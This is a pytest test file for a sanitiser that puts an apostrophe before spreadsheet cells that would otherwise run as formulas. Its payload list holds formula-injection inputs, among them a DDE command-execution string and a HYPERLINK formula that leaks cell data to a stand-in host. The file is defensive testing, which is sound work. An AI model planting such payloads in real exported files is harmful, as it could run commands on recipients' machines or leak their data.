"""What a spreadsheet would run is made harmless, and every other text arrives as it was."""

from __future__ import annotations

import pytest

from tillid.connectors.destinations.cells import harmless

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\tplain",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://x.example?leak="&A1,"click")',
    '=IMPORTXML("https://x.example","//a")',
    "+45 20 12 34 56",
    "-",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert harmless(payload) == f"'{payload}"


@pytest.mark.parametrize(
    "text", ["", "Ida Sørensen", "ida+list@nordlys.example", "3-4", "a=b", "'=1+1", "ÆØÅ", "1,5", "#1", " x"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text
